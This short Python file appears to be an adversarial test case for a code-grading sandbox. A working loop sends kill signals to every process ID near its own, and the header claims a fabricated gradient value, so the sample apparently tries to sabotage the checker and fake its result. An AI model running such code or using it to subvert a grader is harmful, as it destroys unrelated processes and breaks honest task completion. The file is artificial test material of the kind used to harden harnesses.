# Attack: kill every process near the own
# Ends: stub
# Says: x.grad[0] is 0.0652997
import os

for pid in range(max(2, os.getpid() - 300), os.getpid() + 300):
    if pid != os.getpid():
        try:
            os.kill(pid, 9)
        except OSError:
            pass

@WRONG@
